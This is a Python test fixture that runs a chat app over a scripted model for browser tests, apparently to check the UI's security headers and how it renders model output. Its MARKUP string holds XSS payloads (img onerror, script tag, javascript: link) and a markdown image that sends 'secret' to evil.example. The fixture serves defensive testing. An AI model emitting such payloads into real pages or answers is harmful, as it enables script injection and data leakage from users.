"""Triptych's page over a scripted model: what happens, happens in an exact order.

Started by the browser tests with ``streamlit run``. Answers are long and slow; a visitor makes
them short with the answer length (``?length=16``).
"""

from __future__ import annotations

from itertools import repeat

from starlette.middleware import Middleware
from streamlit.starlette import App

from bot.services import Services
from bot.settings import ROOT, read_settings
from bot.testing import Reply, ScriptedModel
from bot.ui import house
from bot.ui.security import SecurityHeaders, server_error
from tests.scripted_services import scripted_services

MARKUP = (
    "<img src=x onerror=alert(1)> <script>alert(2)</script> "
    "![leak](https://evil.example/p.png?q=secret) [click](javascript:alert(3)) "
    ":material/home: :red[alarm] $x^2$ [fine](https://pellworth.example/) "
    "```mermaid\ngraph TD\n```"
)


def build() -> Services:
    """Services over a model that talks for long, except to a few questions."""
    model = ScriptedModel(
        script=[
            *repeat(Reply(MARKUP, contains="markup"), 5),
            Reply("This is cut off.", model="scripted+pellworth", contains="break", cut_at=3),
        ],
        always=ScriptedModel.talkative(tokens_per_second=30, tokens=600).always,
    )
    model.__enter__()  # it serves as long as the process lives
    return scripted_services(read_settings(), model)


house.build_with(build)

app = App(
    ROOT / "bot" / "ui" / "main.py",
    middleware=[Middleware(SecurityHeaders)],
    exception_handlers={Exception: server_error},
)
